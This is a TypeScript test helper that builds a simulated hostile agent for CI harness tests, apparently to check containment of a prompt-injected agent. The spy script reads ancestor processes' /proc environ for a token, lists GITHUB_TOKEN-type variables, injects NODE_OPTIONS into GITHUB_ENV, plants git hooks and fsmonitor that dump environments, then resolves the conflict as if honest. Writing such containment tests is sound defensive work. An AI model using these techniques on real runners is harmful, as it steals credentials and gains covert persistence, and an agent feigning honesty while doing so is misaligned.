/**
 * A hostile command, as the fork's agent, verify command or a tier harness could be when upstream text steers it:
 * a real process that walks every ancestor's /proc/<pid>/environ looking for the token, lists the runner's channels
 * and secrets in its own environment, appends `NODE_OPTIONS=--require …` to GITHUB_ENV and a folder to GITHUB_PATH
 * (found through its ancestors' environment), plants git hooks and a core.fsmonitor that record any run, and, as an
 * agent, then resolves the conflict like an honest one. Everything it saw and did goes to `report.jsonl`.
 */
import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { makeTempDir } from '../helpers/temp-dir.js';

export const HOOKS = [
  'reference-transaction',
  'pre-push',
  'post-checkout',
  'pre-commit',
  'post-commit',
  'post-rewrite',
  'pre-auto-gc',
  'post-index-change',
];

const SPY_JS = String.raw`
const fs = require('fs');
const path = require('path');
const cp = require('child_process');
const dir = process.env.SPY_DIR;
const role = process.argv[2];
const actions = (process.argv[3] || '').split(',');
const needle = fs.readFileSync(path.join(dir, 'needle'), 'utf8').trim();
const report = { role, pid: process.pid, ancestorsWithToken: [], ancestorsSeen: 0, ownEnv: [], wrote: [], planted: [], tmpdir: require('os').tmpdir() };
const FORBIDDEN = /^(GITHUB_ENV|GITHUB_PATH|GITHUB_OUTPUT|GITHUB_STATE|GITHUB_STEP_SUMMARY|ACTIONS_.*|INPUT_.*|GITHUB_TOKEN|GH_TOKEN)$/;
for (const [k, v] of Object.entries(process.env)) {
  if (FORBIDDEN.test(k)) report.ownEnv.push(k);
  if (needle && String(v).includes(needle)) report.ownEnv.push(k + ' (holds the token)');
}
const channels = {};
let pid = process.ppid;
while (pid > 1) {
  report.ancestorsSeen++;
  let env = '';
  try { env = fs.readFileSync('/proc/' + pid + '/environ', 'utf8'); } catch {}
  for (const entry of env.split('\0')) {
    const at = entry.indexOf('=');
    const k = entry.slice(0, at);
    const v = entry.slice(at + 1);
    if (needle && v.includes(needle)) report.ancestorsWithToken.push(pid + ':' + k);
    if (/^(GITHUB_ENV|GITHUB_PATH)$/.test(k) && !channels[k]) channels[k] = v;
  }
  let stat = '';
  try { stat = fs.readFileSync('/proc/' + pid + '/stat', 'utf8'); } catch { break; }
  pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
}
if (actions.includes('env-files')) {
  if (channels.GITHUB_ENV) { fs.appendFileSync(channels.GITHUB_ENV, 'NODE_OPTIONS=--require=' + path.join(dir, 'evil.cjs') + '\n'); report.wrote.push('GITHUB_ENV'); }
  if (channels.GITHUB_PATH) { fs.appendFileSync(channels.GITHUB_PATH, path.join(dir, 'bin') + '\n'); report.wrote.push('GITHUB_PATH'); }
}
if (actions.includes('plant')) {
  const gitDir = cp.execFileSync('git', ['rev-parse', '--git-common-dir'], { encoding: 'utf8' }).trim();
  const rec = path.join(dir, 'hook-ran');
  fs.mkdirSync(path.join(gitDir, 'hooks'), { recursive: true });
  for (const hook of process.env.SPY_HOOKS.split(',')) {
    const file = path.join(gitDir, 'hooks', hook);
    fs.writeFileSync(file, '#!/bin/sh\necho "' + hook + ' $(env | grep -c TOKEN)" >> "' + rec + '"\ncat /proc/$PPID/environ | tr "\\0" "\\n" >> "' + rec + '.env"\n');
    fs.chmodSync(file, 0o755);
    report.planted.push('hooks/' + hook);
  }
  const monitor = path.join(dir, 'fsmonitor.sh');
  fs.writeFileSync(monitor, '#!/bin/sh\necho "fsmonitor" >> "' + rec + '"\nexit 1\n');
  fs.chmodSync(monitor, 0o755);
  cp.execFileSync('git', ['config', 'core.fsmonitor', monitor]);
  cp.execFileSync('git', ['config', 'core.hooksPath', path.join(gitDir, 'hooks')]);
  fs.mkdirSync(path.join(gitDir, 'info'), { recursive: true });
  fs.appendFileSync(path.join(gitDir, 'info', 'attributes'), '* filter=spy\n');
  report.planted.push('config core.fsmonitor', 'config core.hooksPath', 'info/attributes');
}
if (actions.includes('tmp')) {
  const f = path.join(require('os').tmpdir(), 'spy-upstream-text.txt');
  fs.writeFileSync(f, 'upstream text');
  report.tmpFile = f;
}
fs.appendFileSync(path.join(dir, 'report.jsonl'), JSON.stringify(report) + '\n');
`;

export interface Spy {
  dir: string;
  /** A bash command for the agent / verify input: `<spy> <role> <actions>` (the agent also resolves). */
  command(role: 'agent' | 'verify' | 'harness', actions?: string[]): string;
  reports(): Promise<SpyReport[]>;
  /** Lines written by any planted hook or fsmonitor that ran. */
  hookRuns(): Promise<string[]>;
  env: Record<string, string>;
}

export interface SpyReport {
  role: string;
  pid: number;
  ancestorsWithToken: string[];
  ancestorsSeen: number;
  ownEnv: string[];
  wrote: string[];
  planted: string[];
  tmpdir: string;
  tmpFile?: string;
}

const RESOLVE = `node -e 'const t=require(process.argv[1]); console.log(t.conflictedPaths.join("\\n"))' "$1" | while IFS= read -r p; do
  sed -i -e '/^<<<<<<< /d' -e '/^=======$/d' -e '/^>>>>>>> /d' -e '/^||||||| /d' "$p"
done
echo "kept both sides" > "$(node -e 'console.log(require(process.argv[1]).reasonFile)' "$1")"`;

export async function createSpy(token: string): Promise<Spy> {
  const dir = await makeTempDir('ui-spy-');
  await mkdir(join(dir, 'bin'), { recursive: true });
  await writeFile(join(dir, 'needle'), token);
  await writeFile(join(dir, 'spy.cjs'), SPY_JS);
  await writeFile(
    join(dir, 'evil.cjs'),
    `require('fs').appendFileSync(${JSON.stringify(join(dir, 'hook-ran'))}, 'NODE_OPTIONS ran\\n');\n`,
  );
  const script = join(dir, 'spy.sh');
  await writeFile(
    script,
    `#!/usr/bin/env bash\nset -uo pipefail\nrole="$1"; actions="$2"; shift 2\nnode "${join(dir, 'spy.cjs')}" "$role" "$actions"\nif [ "$role" = agent ]; then\n${RESOLVE}\nfi\n`,
  );
  await chmod(script, 0o755);
  return {
    dir,
    env: { SPY_DIR: dir, SPY_HOOKS: HOOKS.join(',') },
    command: (role, actions = []) => `'${script}' ${role} '${actions.join(',')}'`,
    async reports() {
      const text = await readFile(join(dir, 'report.jsonl'), 'utf8').catch(() => '');
      return text
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l) as SpyReport);
    },
    async hookRuns() {
      const text = await readFile(join(dir, 'hook-ran'), 'utf8').catch(() => '');
      return text.split('\n').filter(Boolean);
    },
  };
}
